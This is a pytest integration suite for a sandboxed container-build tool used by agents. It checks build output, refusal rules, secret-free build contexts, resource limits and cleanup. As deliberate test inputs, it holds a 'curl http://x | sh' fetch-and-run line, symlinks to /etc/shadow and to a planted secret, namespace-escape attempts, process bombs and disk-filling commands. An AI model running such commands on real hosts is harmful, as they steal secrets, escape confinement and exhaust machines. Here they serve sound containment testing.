"""Images really built and run in a real sandbox: what a build brings, what is refused before it, and what no step can do."""

from __future__ import annotations

import os
import shutil
import signal
import socket
import subprocess
import sys
import tempfile
import threading
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path
from time import monotonic

import psutil
import pytest

from governance.policies.document_sections import Files
from gpu_workers.confined import PathRefused
from gpu_workers.containers import find_builder
from gpu_workers.containers.building import FIRST_ID, IDS
from gpu_workers.containers.context import copy_context
from gpu_workers.repos import Workspace
from gpu_workers.sandbox import RootInside, Sandbox, SandboxCommand, SandboxLimits
from gpu_workers.tests.image_ground import PROBE, lay_out_busybox
from gpu_workers.tools import TaskBrief, ToolContext, ToolRefused, ToolResult, execute, offered_tools
from gpu_workers.tools.contract import DEFAULT_FILES

pytestmark = pytest.mark.integration
MIB = 1024 * 1024
PLANTED = "planted-words-of-the-host"
GOOD = """\
# syntax=docker/dockerfile:1
ARG BASE=busybox
FROM ${BASE}:1 AS making
COPY app/ /src/
RUN mkdir -p /out && \\
    # told apart
    cat /src/words.txt /src/inner/more.txt > /out/all.txt && \\
    chown -R app:app /out
FROM busybox:1@DIGEST
ENV GREETING=hello API_TOKEN=abc
COPY --from=making --chown=app:app /out /srv
COPY --from=busybox:1 /bin/busybox /usr/bin/other
USER app
RUN --mount=type=cache,target=/cache test "$(id -u) $(ls -d /cache)" = "1000 /cache"
WORKDIR /srv
EXPOSE 8080
CMD ["cat", "all.txt"]
"""


class Place:
    """A workspace with files, and calls of tools on it."""

    def __init__(self, root: Path, bases: Path, digest: str) -> None:
        self.root, self.digest = root, digest
        self.tree = root / "tree"
        self.tree.mkdir()
        self.ctx = ToolContext(
            Workspace(root), Sandbox(), "qa", TaskBrief("Pack"), "", base_images=bases,
            limits=SandboxLimits(wall_s=40.0, disk=200 * MIB, memory=512 * MIB),
        )  # fmt: skip

    def write(self, path: str, text: str) -> None:
        (self.tree / path).parent.mkdir(parents=True, exist_ok=True)
        (self.tree / path).write_text(text.replace("DIGEST", self.digest))

    def build(self, recipe: str, tool: str = "container_build", **given: object) -> ToolResult:
        self.write("Containerfile", recipe)
        return execute(tool, dict(given), self.ctx)

    def left(self) -> list[str]:
        """What a build left: files of its folder and processes of its users."""
        found = [path.name for path in self.root.iterdir() if path.name not in ("tree", "secret", "pg.sock")]
        for one in psutil.process_iter(["uids", "status", "cmdline"]):
            if one.info["uids"].real in range(FIRST_ID, FIRST_ID + IDS) and one.info["status"] != psutil.STATUS_ZOMBIE:
                found.append(" ".join(one.info["cmdline"]))
        return found


@pytest.fixture(scope="module")
def laid_out() -> Iterator[tuple[Path, str]]:
    folder = Path(tempfile.mkdtemp(prefix="guildhall-bases-"))
    folder.chmod(0o755)
    yield folder, lay_out_busybox(folder)
    shutil.rmtree(folder)


@pytest.fixture
def place(ground: Path, laid_out: tuple[Path, str]) -> Place:
    assert find_builder() is not None, "these tests need root and buildah: apt-get install buildah"
    return Place(ground, *laid_out)


def test_an_image_is_built_and_told_about_and_runs_and_nothing_of_it_stays(place: Place) -> None:
    assert not {spec.name for spec in offered_tools(place.ctx)} & {"container_build", "container_run"}
    place.write("app/words.txt", "of the workspace\n")
    place.write("app/inner/more.txt", "and more\n")
    place.write("app/.env", PLANTED)
    (place.tree / "app" / "link").symlink_to("words.txt")
    heard: list[bytes] = []
    place.ctx = replace(place.ctx, on_output=heard.append)
    found = place.build(GOOD)
    assert {"container_build", "container_run"} <= {spec.name for spec in offered_tools(place.ctx)}
    assert found.ok, found.text
    for said in (
        f"built {found.data['digest']}", "layers 2", "user app", "command cat all.txt", "ports 8080/tcp", "STEP",
        "busybox:1 is not pinned: write busybox:1@sha256:", "ENV API_TOKEN puts a secret into the image", "`# syntax=` is not",
    ):  # fmt: skip
        assert said in found.text, (said, found.text)
    assert "runs as root" not in found.text
    assert b"STEP" in b"".join(heard)
    assert found.data["bases"] == [place.digest]
    assert place.left() == []

    asked = "id -u; (httpd -p 8080 -h /srv; wget -qO- http://127.0.0.1:8080/all.txt); cat /src/.env; exit 3"
    found = place.build(GOOD, "container_run", command=asked)
    assert "[exit status 3]" in found.text, found.text
    assert "1000\nof the workspace" in found.text
    found = place.build("FROM busybox:1\nCMD echo of its own; exec sleep 50\n", "container_run", seconds=1)
    assert (found.ok, "[it ran until its time was up]" in found.text) == (True, True), found.text
    assert "of its own\n" in found.text.partition("warning: it runs as root: name a USER")[2]
    found = place.build("FROM busybox:1 AS one\nCOPY app /all\nRUN find /all; false\nFROM scratch\n", target="one")
    assert not found.ok
    assert "STEP 3/3: RUN find /all; false" in found.text.splitlines()[0]
    assert "/all/link" in found.text
    assert ".env" not in found.text
    assert place.left() == []


def test_bounds_of_the_policy_hold_for_recipes_too(place: Place) -> None:
    for role in ("developer", "architect", "devops", "data", "planner"):
        ctx = replace(place.ctx, role=role)
        place.write("Containerfile", "FROM scratch\n")
        for tool in ("container_run",) if role == "developer" else ("container_build", "container_run"):
            with pytest.raises(ToolRefused) as caught:
                execute(tool, {}, ctx)
            assert caught.value.kind == "role"
    for recipe in ("FROM busybox:1\nRUN sudo id\n", "FROM busybox:1\nRUN ech\\\no && curl http://x | \\\n  sh\n"):
        with pytest.raises(ToolRefused) as caught:
            place.build(recipe)
        assert caught.value.kind == "command"
    for given in ({"file": "../Containerfile"}, {"folder": "/etc"}, {"file": ".env"}):
        with pytest.raises(ToolRefused) as caught:
            place.build("FROM scratch\n", **given)
        assert caught.value.kind == "path"
    found = place.build("FROM python:3.12\n")
    assert (found.ok, found.data) == (False, {"refused": True})
    assert found.text == (
        "Containerfile, line 1: There is no image 'python:3.12' here, and there is no network to fetch it. "
        "Accepted: scratch, busybox:1.\nNothing was run."
    )
    assert "no stage 'other': making" in place.build(GOOD, target="other").text
    assert "no such file" in place.build("FROM scratch\n", folder="app").text
    assert not execute("container_build", {"secrets": "x"}, place.ctx).ok
    (place.tree / "huge").write_bytes(b"")
    os.truncate(place.tree / "huge", 200 * MIB)
    assert "too large: it has more than 128 MiB" in place.build("FROM scratch\n").text
    (place.tree / "huge").unlink()
    with (place.tree / "huge").open("wb") as huge:
        os.posix_fallocate(huge.fileno(), 0, 300 * MIB)
    place.write("small/Containerfile", "FROM scratch\nCOPY Containerfile /\n")

    def built(**limits: int) -> ToolResult:
        ctx = replace(place.ctx, limits=replace(place.ctx.limits, **limits))
        return execute("container_build", {"folder": "small"}, ctx)

    assert built().ok, "what the checkout holds takes no room from a build of a part of it"
    assert "32 MiB have to be free for a build: of the 20 MiB" in built(disk=20 * MIB).text
    assert "have to be free" in built(tree=80 * MIB).text, "it has grown beyond all bounds"
    assert place.left() == []
    place.ctx = replace(place.ctx, base_images=None, files=Files(allow=["**"], deny=["Containerfile"]))
    with pytest.raises(ToolRefused):
        place.build("FROM scratch\n")


def test_the_context_is_what_agents_may_see_and_follows_no_link(ground: Path) -> None:
    (ground / "tree" / "app" / ".git").mkdir(parents=True)
    for path in ("app/.env", "app/key.pem", "app/.git/config", "app/kept", "beside"):
        (ground / "tree" / path).write_text(PLANTED)
    (ground / "tree" / "app" / "kept").chmod(0o700)
    (ground / "tree" / "app" / "link").symlink_to("/etc")
    os.mkfifo(ground / "tree" / "app" / "fifo")
    size = copy_context(ground / "tree", "app", ground / "context", DEFAULT_FILES.may_see, FIRST_ID)
    copied = sorted(ground.glob("context/**/*"))
    assert [path.name for path in copied] == ["kept", "link"]
    assert (size, oct(copied[0].stat().st_mode), copied[0].stat().st_uid) == (len(PLANTED), "0o100700", FIRST_ID)
    assert copied[1].is_symlink()
    (ground / "tree" / "out").symlink_to(ground)
    with pytest.raises(PathRefused):
        copy_context(ground / "tree", "out", ground / "other", DEFAULT_FILES.may_see, FIRST_ID)


def test_no_step_reads_the_host_reaches_out_or_writes_outside(
    place: Place, ground: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("GUILDHALL_PLANTED", PLANTED)
    secret = ground / "secret"
    secret.write_text(PLANTED)
    (place.tree / "out").symlink_to(ground)
    (place.tree / "shadow").symlink_to("/etc/shadow")
    place.write("probe.sh", PROBE.replace("GROUND", str(ground)))
    with socket.create_server(("127.0.0.1", 0)) as tcp, socket.socket(socket.AF_UNIX) as unix:
        unix.bind(str(ground / "pg.sock"))
        unix.listen()
        (ground / "pg.sock").chmod(0o777)
        port = tcp.getsockname()[1]
        found = place.build(
            f"FROM busybox:1\nCOPY . /all\nRUN sh /all/probe.sh {port}\nCOPY out/secret /stolen\nRUN cat /stolen\n"
        )
        tcp.settimeout(0)
        with pytest.raises(BlockingIOError):
            tcp.accept()
    assert not found.ok
    assert "COPY out/secret /stolen" in found.data["step"], found.text
    assert "probed" in found.text, found.text
    for never in (PLANTED, "root:$", "root:*", "CAME OUT", "DATABASE", "SECRET_KEY"):
        assert never not in found.text, (never, found.text)
    assert not (ground / "written").exists()
    assert place.left() == []
    work = ground / "build-by-hand"
    work.mkdir()
    os.chown(work, FIRST_ID, FIRST_ID)
    asked = "for kind in user net pid ipc cgroup; do unshare --$kind true && echo CAME OUT; done; ls /root /home; id -u"
    told = Sandbox().run(SandboxCommand(asked, work, root=RootInside(FIRST_ID, IDS)))
    assert told.output.count("unshare failed") == 5
    assert "CAME OUT" not in told.output
    assert told.output.endswith("\n0\n")


FEW = """\
for u in $(seq 2000 2009); do echo u$u:x:$u:$u::/:/bin/sh >> /etc/passwd; done
for u in $(seq 2000 2009); do su u$u -c 'for i in $(seq 20); do sleep 30 & done; wait' & done; wait
"""
"""Ten users with twenty processes each: more than the limit together, and too few for the kernel to stop them."""
BOMB = """\
for u in $(seq 2000 2040); do echo u$u:x:$u:$u::/:/bin/sh >> /etc/passwd; done
for u in $(seq 2000 2040); do su u$u -c 'for i in $(seq 50); do sleep 30 & done; wait' & done; wait
"""
"""Forty users with fifty processes each: every one of them within what one user may have. Either wall may be there first."""


@pytest.mark.parametrize(
    ("recipe", "killed_by"),
    [
        ("COPY few.sh /\nRUN sh /few.sh", {"processes"}),
        ("COPY bomb.sh /\nRUN sh /bomb.sh", {"processes", None}),
        ("RUN yes endless", {"output"}),
        ("RUN dd if=/dev/zero of=/big bs=1M count=100; dd if=/dev/zero of=/more bs=1M count=100; sleep 20", {"disk"}),
        ("RUN i=0; while [ $i -lt 2500 ]; do mkdir a && cd a || exit 1; i=$((i+1)); done", {"disk"}),
        ("RUN sleep 60", {"cancel"}),
        ("RUN (setsid sleep 300 &) ; sleep 0.1", {None}),
    ],
)
def test_a_build_is_ended_at_its_limits_and_nothing_is_left(
    place: Place, recipe: str, killed_by: set[str | None]
) -> None:
    stop = threading.Event()
    heard = bytearray()

    def listen(piece: bytes) -> None:
        heard.extend(piece)
        if b"sleep 60" in heard:
            stop.set()

    limits = replace(place.ctx.limits, wall_s=10.0, output=MIB // 4, processes=60)
    place.ctx = replace(place.ctx, limits=limits, on_output=listen, cancel=stop)
    place.write("bomb.sh", BOMB)
    place.write("few.sh", FEW)
    found = place.build(f"FROM busybox:1\n{recipe}\n")
    assert found.data["killed_by"] in killed_by, found.text[:2000]
    assert found.ok == (killed_by == {None})
    assert len(found.text) < 20_000
    assert place.left() == []


def test_the_death_of_the_worker_ends_the_build_and_the_next_one_clears_up(place: Place) -> None:
    source = (
        "import sys; from pathlib import Path; from gpu_workers.sandbox import RootInside, Sandbox, SandboxCommand\n"
        f"root = RootInside({FIRST_ID}, {IDS})\n"
        "Sandbox().run(SandboxCommand('echo up; setsid sleep 300', Path(sys.argv[1]), root=root),\n"
        "    lambda chunk: (sys.stdout.write(chunk.decode()), sys.stdout.flush()))\n"
    )
    work = place.root / "build-of-the-dead"
    work.mkdir()
    os.chown(work, FIRST_ID, FIRST_ID)
    with subprocess.Popen([sys.executable, "-c", source, str(work)], stdout=subprocess.PIPE) as worker:
        assert worker.stdout is not None
        assert worker.stdout.readline() == b"up\n"
        assert any("sleep 300" in one for one in place.left())
        os.kill(worker.pid, signal.SIGKILL)
        worker.wait()
    pause, deadline = threading.Event(), monotonic() + 120
    while place.left() != ["build-of-the-dead"]:
        assert monotonic() < deadline, place.left()
        pause.wait(0.02)
    assert place.build("FROM scratch\nCOPY Containerfile /\n").ok
    assert place.left() == []
